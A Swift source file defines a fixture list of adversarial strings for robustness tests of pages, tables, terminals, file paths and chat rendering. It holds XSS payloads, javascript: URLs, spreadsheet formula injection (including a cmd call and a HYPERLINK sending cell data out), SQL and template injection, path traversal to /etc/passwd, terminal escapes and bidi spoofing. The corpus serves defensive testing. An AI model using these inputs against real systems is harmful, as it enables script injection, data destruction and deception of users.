/// A text that something could go wrong with: in a page, a table, a terminal, a path or a reader.
public struct HostileText: Sendable, CustomStringConvertible {
  /// What it tries, in a word or two.
  public let name: String
  /// The text as a JSON string with its quotation marks; it can hold what no Swift string can, such as
  /// half of a surrogate pair.
  public let json: String

  /// The same as `name`, for the arguments of tests.
  public var description: String { name }

  private init(_ name: String, json: String) {
    self.name = name
    self.json = json
  }

  private init(_ name: String, _ text: String) {
    self.init(name, json: Builder.quoted(text))
  }

  /// Every hostile text there is, always in the same order.
  public static let all: [HostileText] =
    markup + addresses.map { HostileText("address", $0) } + code + tables + terminals + scripts
    + names + chat + broken

  /// Addresses of every scheme, most of which no page may link to.
  public static let addresses: [String] = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "javascript\n:alert(1)", "\u{1}javascript:alert(1)", "javascript&colon;alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zy8+", "blob:https://x.example/1", "file:///etc/passwd",
    "about:blank", "view-source:https://x.example", "intent://x#Intent;end", "ms-word:ofe|u|x",
    "ftp://x.example/a", "ws://x.example", "mailto:a@x.example?body=<b>", "tel:+123",
    "//x.example/a", "\\\\x.example\\share", "https:///a", "https://", "https://[::1",
    "https://user:word@x.example/", "https://x.example/\"onmouseover=\"alert(1)",
    "https://x.example/?a=<script>&b='c'", "https://x.example/%00%0a%ff",
    "https://ex\u{430}mple.com/",
    "https://x.example/\u{202E}gpj.exe", "HTTPS://X.EXAMPLE/A b", "https://x.example/#</script>",
  ]

  private static let markup: [HostileText] = [
    HostileText("script element", "<script>alert(1)</script>"),
    HostileText("end of script", "</script><script>alert(1)//"),
    HostileText("attribute", "\"><img src=x onerror=alert(1)>"),
    HostileText("single quotes", "' onmouseover='alert(1)"),
    HostileText("ends of elements", "</title></style></textarea></p></div></main></body></html>"),
    HostileText("comment", "<!-- --><!--> --!> -->"),
    HostileText("section", "<![CDATA[ ]]> ]]&gt; <?php echo 1 ?> <!DOCTYPE x [<!ENTITY e \"e\">]>"),
    HostileText("references", "&lt;b&gt; &amp;amp; &#x3c; &#0; &nbsp; &notanentity; &"),
    HostileText("drawing", "<svg/onload=alert(1)><math><mi//xlink:href=\"data:x,alert(1)\">"),
    HostileText("style", "}</style><style>*{background:url(https://x.example/)}"),
    HostileText("base", "<base href=https://x.example><meta http-equiv=refresh content=0>"),
    HostileText("template", "{{7*7}} ${7*7} <%= 7*7 %> {guild} %s%n %00 $(reboot) `reboot`"),
    HostileText(
      "links",
      "[a](javascript:alert(1)) ![b](data:text/html,x) [https://good.example](https://x.example)"
    ),
    HostileText(
      "automatic links",
      "<javascript:alert(1)> <https://x.example/a\"b> https://x.example/<b>"
    ),
    HostileText(
      "link parts",
      "[a]: javascript:alert(1)\n[a] [b](https://x.example \"t\" onclick=x) [c](<d e>)"
    ),
  ]

  private static let code: [HostileText] = [
    HostileText("fence", "```html\n</code></pre><script>alert(1)</script>\n```"),
    HostileText("fence's language", "```\"><script>x</script>\ncode\n```"),
    HostileText("open fence", "```\nnever ends <b>"),
    HostileText(
      "long fence",
      String(repeating: "`", count: 40) + "\n```\n~~~\n" + String(repeating: "`", count: 39)
    ),
    HostileText("inline code", "`` ` `` `</code>` ```` ``` ```` `\\`"),
    HostileText("deep quotes", String(repeating: "> ", count: 300) + "deep"),
    HostileText("deep marks", String(repeating: "**_~~||", count: 150) + "deep"),
    HostileText(
      "deep lists",
      (0..<60).map { String(repeating: "  ", count: $0) + "- x" }.joined(separator: "\n")
    ),
    HostileText(
      "headings",
      "# # #\n## [x](y)\n-# small\n---\n===\n| a | b |\n|---|---|\n| <b> | `|` |"
    ),
  ]

  private static let tables: [HostileText] =
    [
      "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", "\u{FF1D}1+1",
      "\u{FEFF}=1", ";=1", "|=1",
    ]
    .map { HostileText("formula", $0) } + [
      HostileText("call of a program", "=cmd|' /C calc'!A0"),
      HostileText("link of a sheet", "=HYPERLINK(\"https://x.example?\"&A1,\"x\")"),
      HostileText("quotation marks", "\"a\",\"b\"\r\n\"\"c\",'d;e\tf\\\""),
      HostileText(
        "objects",
        "{\"record\":\"deletion\"}\n[\"id\",\"channel_id\"]\n__proto__ constructor"
      ),
      HostileText("statement", "'; DROP TABLE messages; -- \\"),
    ]

  private static let terminals: [HostileText] = [
    HostileText("colours", "\u{1B}[31mred\u{1B}[0m\u{9B}31m"),
    HostileText(
      "title",
      "\u{1B}]0;title\u{7}\u{1B}]8;;https://x.example\u{1B}\\x\u{1B}]8;;\u{1B}\\\u{9D}0;t\u{9C}"
    ),
    HostileText("screen", "\u{1B}[2J\u{1B}c\u{1B}P+q544e\u{1B}\\\u{1B}_G;x\u{1B}\\"),
    HostileText("overwriting", "safe\rbad\u{8}\u{8}\u{8}\u{7F}\u{B}\u{C}"),
    HostileText("nothing", "a\u{0}b\u{0}"),
    HostileText(
      "controls",
      String(String.UnicodeScalarView((1...31).compactMap { Unicode.Scalar($0) }))
    ),
    HostileText(
      "more controls",
      String(String.UnicodeScalarView((0x7F...0x9F).compactMap { Unicode.Scalar(UInt32($0)) }))
    ),
    HostileText("line ends", "a\nb\r\nc\rd\u{85}e\u{2028}f\u{2029}g\u{1E}h"),
  ]

  private static let scripts: [HostileText] = [
    HostileText("override", "\u{202E}exe.gpj\u{202D} \u{2066}a\u{2067}b\u{2068}c"),
    HostileText("endings", "\u{202C}\u{2069}\u{2069}\u{2069}\u{200E}\u{200F}\u{61C}"),
    HostileText(
      "right to left",
      "\u{645}\u{631}\u{62D}\u{628}\u{627} (abc) 12:30 \u{5E9}\u{5DC}\u{5D5}\u{5DD}!"
    ),
    HostileText(
      "marks upon marks",
      "Z" + String(repeating: "\u{300}\u{323}\u{489}\u{35C}", count: 120) + "algo"
    ),
    HostileText("long word", String(repeating: "w", count: 4_000)),
    HostileText("long wide word", String(repeating: "\u{6771}", count: 4_000)),
    HostileText(
      "joined people",
      String(repeating: "\u{1F469}\u{200D}\u{1F467}\u{200D}\u{1F466}\u{1F3FD}", count: 200)
    ),
    HostileText("hidden", "a\u{200B}b\u{200C}c\u{2060}d\u{FEFF}e\u{AD}f\u{180E}g\u{3164}h\u{FFA0}"),
    HostileText(
      "tags and selectors",
      "\u{E0001}\u{E0041}\u{E007F}\u{FE0F}\u{FE0E}\u{E0100}\u{20E3}"
    ),
    HostileText(
      "same and other",
      "\u{E9} e\u{301} \u{212B} \u{FB01} \u{1D54F} \u{FF21} \u{130}\u{131}\u{DF}"
    ),
  ]

  private static let names: [HostileText] =
    [
      "../../../etc/passwd", "/etc/passwd", "..", ".", "", " ", ".hidden", "a/b\\c:d*e?f", "CON",
      "nul.txt",
      "name.", "name ", "manifest.json", "-rf", "~", "%2e%2e%2f", "file.tar.gz\u{0}.png",
    ]
    .map { HostileText("file name", $0) } + [
      HostileText("long file name", String(repeating: "long name ", count: 60) + ".txt"),
      HostileText("wide file name", String(repeating: "\u{1F989}", count: 120) + ".png"),
    ]

  private static let chat: [HostileText] = [
    HostileText(
      "mentions",
      "<@77> <@!1> <@&2> <#500> </cmd:1> <id:guide> @everyone @here <@99999999999999999999>"
    ),
    HostileText("emoji", "<:a\"><b>:1> <a:b:2> :smile: <::3> <:x:99999999999999999999>"),
    HostileText(
      "times",
      "<t:0> <t:-1:R> <t:99999999999999999:F> <t:9223372036854775807:R> <t:1:x>"
    ),
    HostileText("spoilers", "||<b>|| |||| ||`||`|| \\||x\\||"),
    HostileText("hit marks", "[[a]] ]] [[ \u{2}\u{3} <mark>x</mark>"),
  ]

  // Written as JSON, for no Swift string holds them.
  private static let broken: [HostileText] = [
    HostileText("high surrogate", json: "\"a\\ud800b\""),
    HostileText("low surrogate", json: "\"\\udc00\""),
    HostileText("surrogates turned round", json: "\"\\udc00\\ud800\""),
    HostileText("surrogate at the end", json: "\"end\\udbff\""),
    HostileText("written nothing", json: "\"\\u0000\\u0001\\u001b[31m\\u202e\""),
    HostileText(
      "no characters",
      json: "\"\\ufffe\\uffff\\ufdd0\\ud83f\\udffe\\udbff\\udfff\\ufffd\\ue000\\uf8ff\""
    ),
    HostileText("slashes", json: "\"\\/\\\\\\\"\\b\\f\\n\\r\\t\""),
  ]
}
